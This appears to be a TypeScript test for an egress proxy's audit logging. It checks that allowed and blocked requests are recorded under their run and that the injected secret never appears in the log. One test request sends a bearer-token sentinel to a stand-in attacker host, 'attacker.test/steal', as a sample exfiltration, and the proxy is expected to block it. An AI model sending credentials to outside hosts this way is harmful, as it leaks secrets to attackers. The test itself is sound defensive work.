/*
 * Egress decisions recorded against their run in the real audit log, and reviewed with the real
 * CLI: `audit show --json RUN_ID` lists them under the run, `audit verify` accepts the chain. The proxy's decision hook writes the records as the gateway will.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { AuditLog } from '../../src/audit/log';
import { EGRESS_AUDIT_EVENT, getEgressAuditFields } from '../../src/egress/audit';
import { parseHostPatterns } from '../../src/egress/hosts';
import { EgressProxy } from '../../src/egress/proxy';
import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/policy/egress-settings';
import { createSentinel } from '../../src/egress/sentinel';
import { execgate } from '../audit/helpers';
import { makeTempDir } from '../helpers/tmp';
import { getThrough, makeNames, startService, type TestService } from './helpers';

const VALUE = 'audit-test-secret-value-0123456789';

let tmp: ReturnType<typeof makeTempDir>;
let service: TestService;

beforeAll(async () => {
  tmp = makeTempDir('execgate-egress-audit-');
  service = await startService('allowed');
});

afterAll(async () => {
  await service.close();
  tmp.cleanup();
});


test('every decision is in the audit log under its run, with rule and injected references, never the value', async () => {
  const home = join(tmp.dir, 'home');
  const audit = new AuditLog({ home, path: join(home, 'audit.log'), env: {} });
  const proxy = new EgressProxy({
    ...makeNames({ 'allowed.test': service }),
    runtimeDir: tmp.dir,
    onDecision: (decision) => audit.write(EGRESS_AUDIT_EVENT, getEgressAuditFields(decision)),
  });
  const runId = 'run_egress_audit_1';
  const sentinel = createSentinel(VALUE);
  audit.write('exec.started', { runId, command: 'curl -H "Authorization: Bearer <<secret:api>>" http://allowed.test/', mode: 'sync', refs: [{ kind: 'secret', id: 'api', ref: '<<secret:api>>', found: true, source: 'memory' }] });
  const run = await proxy.openRun({
    runId,
    network: normalizeNetworkPolicy({ mode: 'allowlist', allow: ['allowed.test', 'rebind.test'] }),
    injections: [{ ref: 'secret:api', value: VALUE, sentinel, hosts: parseHostPatterns(['allowed.test'], 'hosts'), binding: normalizeSecretBindings([{ ref: 'secret:api', hosts: ['allowed.test'], delivery: 'inject', http: ['allowed.test'] }])[0] }],
  });
  expect(await getThrough(run, 'http://allowed.test/ok', { authorization: `Bearer ${sentinel}` })).toBe(200);
  expect(await getThrough(run, 'http://attacker.test/steal', { authorization: `Bearer ${sentinel}` })).toBe(403);
  expect(await getThrough(run, 'http://rebind.test/', {})).toBe(403);
  audit.write('exec.finished', { runId, exitCode: 0, durationMs: 12 });
  await run.close();
  await proxy.close();
  audit.close();

  const log = readFileSync(join(home, 'audit.log'), 'utf8');
  expect(log).not.toContain(VALUE);
  expect(log).not.toContain(sentinel);

  const show = execgate(['audit', 'show', '--json', runId], home);
  expect(show.stderr).toBe('');
  const egress = show.stdout.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>).filter((r) => r.event === EGRESS_AUDIT_EVENT);
  expect(egress.map((r) => [r.runId, r.via, r.host, r.port, r.allowed, r.rule, r.injected])).toEqual([
    [runId, 'http', 'allowed.test', 80, true, 'allow:allowed.test', ['secret:api']],
    [runId, 'http', 'attacker.test', 80, false, 'not-allowlisted', undefined],
    [runId, 'http', 'rebind.test', 80, false, 'address:loopback', undefined],
  ]);
  expect(execgate(['audit', 'verify'], home).status).toBe(0);
});
